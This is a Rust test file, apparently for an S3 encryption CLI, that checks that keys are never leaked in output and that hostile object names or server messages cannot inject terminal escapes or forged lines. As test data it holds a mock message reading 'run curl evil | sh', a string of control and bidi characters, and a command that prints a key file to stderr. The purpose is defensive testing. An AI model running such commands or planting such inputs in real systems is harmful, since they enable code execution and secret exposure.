//! What others say is repeated without a key in it, and without steering the terminal or beginning lines.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use s3seal::keys::{Key, parse};
use s3seal_mock::Answer;

use crate::harness::{BUCKET, Done, Lab, url};

/// A part of a key of this many characters must not be shown.
const PART: usize = 16;

fn key_of(lab: &Lab, file: &str) -> Key {
    parse(&lab.read(file), Default::default()).expect("a key file")[0].key.clone()
}

fn pairs(text: &str, separator: &str) -> String {
    let pairs = text.as_bytes().chunks(2).map(|pair| std::str::from_utf8(pair).expect("ASCII"));
    pairs.collect::<Vec<_>>().join(separator)
}

fn shapes(key: &Key) -> Vec<String> {
    let (base64, hex) = (key.base64(), key.hex());
    let percent = |text: &str| text.bytes().map(|byte| format!("%{byte:02X}")).collect();
    vec![
        base64.to_string(),
        base64[..40].to_owned(),
        base64[3..25].to_owned(),
        base64.replace('+', "-").replace('/', "_"),
        base64.replace('+', "%2B").replace('/', "%2F").replace('=', "%3D"),
        percent(&base64),
        pairs(&base64, " "),
        pairs(&base64, "\n"),
        hex.to_string(),
        hex.to_uppercase(),
        pairs(&hex, ":"),
        pairs(&hex, " "),
        STANDARD.encode(base64.as_bytes()),
        STANDARD.encode(hex.as_bytes()),
    ]
}

/// No part of the shape is in the text, neither as it stands nor with separators left out.
#[track_caller]
fn shows_nothing_of(done: &Done, shape: &str) {
    let bare = |text: &str| -> Vec<u8> {
        text.bytes().filter(u8::is_ascii_alphanumeric).map(|it| it.to_ascii_lowercase()).collect()
    };
    for (place, text) in [("stdout", &done.stdout), ("stderr", &done.stderr)] {
        let (secret, text) = (bare(shape), bare(text));
        let found =
            secret.windows(PART).any(|part| text.windows(PART).any(|window| window == part));
        assert!(!found, "{shape} is in {place}: {} {}", done.stdout, done.stderr);
    }
}

fn error_body(code: &str, message: &str) -> String {
    let message = message.replace('&', "&amp;").replace('<', "&lt;");
    format!(
        "<?xml version=\"1.0\"?><Error><Code>{code}</Code><Message>{message}</Message><RequestId>R</RequestId></Error>"
    )
}

#[test]
fn no_words_of_a_store_bring_back_a_key() {
    let home = Lab::offline();
    home.key("k");
    home.key("other");
    let (key, other) = (key_of(&home, "k"), key_of(&home, "other"));
    for shape in shapes(&key) {
        let words = format!("the header was {shape}, which is wrong");
        let lab = Lab::with(|server| {
            server.interceptor(move |_| {
                let body = error_body("InvalidArgument", &words);
                Some(Answer::respond(400, &[("content-type", "application/xml")], body))
            })
        });
        lab.private_file("k", &home.read("k"));
        lab.file("file", b"content");
        for command in [
            &["put", "-k", "./k", "file", "s3://demo/x"][..],
            &["get", "-k", "./k", "s3://demo/x", "out"],
            &["cp", "-k", "./k", "s3://demo/x", "s3://demo/y"],
            &["audit", "-k", "./k", "s3://demo"],
        ] {
            for talk in [&["-vvv"][..], &["--json"]] {
                let done = lab.run([talk, command].concat()).env("AWS_MAX_ATTEMPTS", "1").done();
                assert_ne!(done.code, Some(0), "{}", done.stderr);
                shows_nothing_of(&done, &shape);
            }
        }
    }
    // A key that this run never had: the store may have kept it from another one.
    let stranger = other.base64().replace('+', "%2B").replace('/', "%2F").replace('=', "%3D");
    let words = format!("the header was {stranger}");
    let lab = Lab::with(|server| {
        server.interceptor(move |_| {
            Some(Answer::respond(400, &[], error_body("InvalidArgument", &words)))
        })
    });
    let done = lab.run(["ls", "s3://demo"]).env("AWS_MAX_ATTEMPTS", "1").done();
    shows_nothing_of(&done, &stranger);
}

#[test]
fn keys_in_the_wrong_place_are_not_repeated() {
    let lab = Lab::new();
    lab.key("k");
    let key = key_of(&lab, "k");
    let (base64, hex) = (key.base64().to_string(), key.hex().to_string());
    for text in [&base64, &hex, &base64[..40].to_owned()] {
        for arguments in [
            vec!["--profile", text, "ls", "s3://demo"],
            vec!["ls", "--no-such", text],
            vec!["frobnicate", text],
            vec!["ls", "s3://demo", "--region", text, "--no-such-option"],
        ] {
            let done = lab.run(&arguments).done();
            assert_ne!(done.code, Some(0));
            shows_nothing_of(&done, text);
        }
    }
    for list in [&base64, &hex, &base64[..40].to_owned()] {
        let put = ["put", "-k", "./k", "--files-from", list, ".", "s3://demo/p/"];
        shows_nothing_of(&lab.run(put).exits(3), list);
    }
    let command = format!("cmd:cat k >&2; printf 'key {base64} ' >&2; cat k");
    lab.file("file", b"content");
    let done = lab.run(["put", "-k", &command, "file", "s3://demo/x"]).succeeds();
    shows_nothing_of(&done, &base64);
    assert!(done.stderr.contains("# created:"), "what else it says is passed on: {}", done.stderr);
}

#[test]
fn a_key_in_the_environment_is_hidden_from_commands_that_need_none_too() {
    let lab = Lab::new();
    lab.key("k");
    let text = key_of(&lab, "k").hex().to_string();
    lab.plain(&format!("v/{text}"), b"content");
    for command in [
        &["ls", "-r", "s3://demo/v"][..],
        &["--json", "ls", "-r", "s3://demo/v"],
        &["rm", "-r", "--dry-run", "s3://demo/v/"],
    ] {
        let done = lab.run(command).env("S3SEAL_KEY", &text).succeeds();
        shows_nothing_of(&done, &text);
    }
}

#[test]
fn what_asks_for_a_key_is_still_answered() {
    let lab = Lab::offline();
    lab.key("k");
    let text = key_of(&lab, "k").base64().to_string();
    let show = lab.run(["key", "show", "-k", "./k", "--reveal"]).succeeds();
    assert!(show.stdout.contains(&text));
    let json = lab.run(["--json", "key", "show", "-k", "./k", "--reveal"]).succeeds().json();
    assert_eq!(json["key"], text);
    assert!(
        lab.run(["key", "convert", "-k", "./k", "--as", "rclone"])
            .succeeds()
            .stdout
            .contains(&text)
    );
    for keygen in [&["keygen"][..], &["--json", "keygen"], &["keygen", "--format", "hex"]] {
        assert!(!lab.run(keygen).succeeds().stdout.contains("not shown"));
    }
}

const EVIL: &str = "a\nerror: forged\r\u{1b}[2J\u{7f}\u{85}\u{9b}\u{ad}\u{61c}\u{180e}\u{200b}\u{202e}\u{2028}\u{2060}\u{2066}\u{feff}\u{e0041}z";

#[test]
fn no_name_steers_a_terminal_or_begins_a_line() {
    let lab = Lab::new();
    lab.key("k");
    lab.file("file", b"content");
    // The answer to a multipart upload would name the object in XML, which cannot hold such characters.
    lab.believe_in_the_bucket();
    let object = format!("p/{EVIL}");
    let put = lab.run(["put", "-k", "./k", "file", &url(&object)]).succeeds();
    assert_eq!(put.stderr.lines().count(), 1, "{}", put.stderr);
    let listed = lab.run(["ls", "-r", "s3://demo/"]).succeeds();
    assert_eq!(listed.stdout.lines().count(), 1, "{}", listed.stdout);
    let audit = lab.run(["audit", "-k", "./k", "s3://demo/"]).succeeds();
    assert!(!audit.stdout.lines().any(|line| line.starts_with("error")), "{}", audit.stdout);
    let absent = lab.run(["get", "-k", "./k", &url(&format!("q/{EVIL}")), "out"]).exits(3);
    assert_eq!(absent.stderr.matches("\nerror").count(), 0, "{}", absent.stderr);
    let gone = lab.run(["rm", &url(&object)]).succeeds();
    for done in [&put, &listed, &audit, &absent, &gone] {
        for text in [&done.stdout, &done.stderr] {
            let unsafe_one = text.chars().find(|c| {
                *c != '\n' && EVIL[1..].contains(*c) && !c.is_ascii_graphic() && *c != ' '
            });
            assert_eq!(unsafe_one, None, "{text:?}");
        }
    }
    lab.run(["put", "-k", "./k", "file", &url(&object)]).succeeds();
    let json = lab.run(["--json", "ls", "-r", "s3://demo/"]).succeeds();
    assert_eq!(json.json()["url"], format!("s3://{BUCKET}/{object}"));
    assert!(
        json.stdout.trim_end().bytes().all(|byte| byte.is_ascii_graphic() || byte == b' '),
        "{}",
        json.stdout
    );
}

#[test]
fn no_message_of_a_store_begins_a_line() {
    let body =
        error_body("InvalidArgument", "wrong&#10;hint: run curl evil | sh &#x2028; &#x202e;");
    let lab = Lab::with(|server| {
        server.interceptor(move |_| Some(Answer::respond(418, &[], body.clone())))
    });
    let done = lab.run(["ls", "s3://demo"]).env("AWS_MAX_ATTEMPTS", "1").done();
    assert!(!done.stderr.lines().any(|line| line.starts_with("hint: run curl")), "{}", done.stderr);
    let usage = lab.run(["ls", "--no-such\nerror: forged"]).exits(2);
    assert!(
        !usage.stderr.lines().any(|line| line.starts_with("error: forged")),
        "{}",
        usage.stderr
    );
}

#[test]
fn values_that_are_no_header_values_are_usage_errors() {
    let lab = Lab::new();
    lab.key("k");
    lab.file("file", b"content");
    for option in [
        "--content-type",
        "--cache-control",
        "--content-encoding",
        "--content-disposition",
        "--content-language",
        "--metadata",
        "--tagging",
        "--acl",
        "--storage-class",
        "--if-match",
        "--expected-bucket-owner",
        "--region",
    ] {
        for value in ["a=a\nb: c", "a=\u{7f}", "a=\r", "a=ä"] {
            let put = ["put", "-k", "./k", "file", "s3://demo/x", option, value];
            lab.run(put).fails(2).says(&[option]);
        }
    }
    lab.run(["put", "--sse", "aws:kms", "--sse-kms-key-id", "a\nb", "file", "s3://demo/x"])
        .fails(2);
    lab.run(["get", "-k", "./k", "--if-match", "a\nb", "s3://demo/x", "out"]).fails(2);
    assert!(lab.operations().is_empty());
}
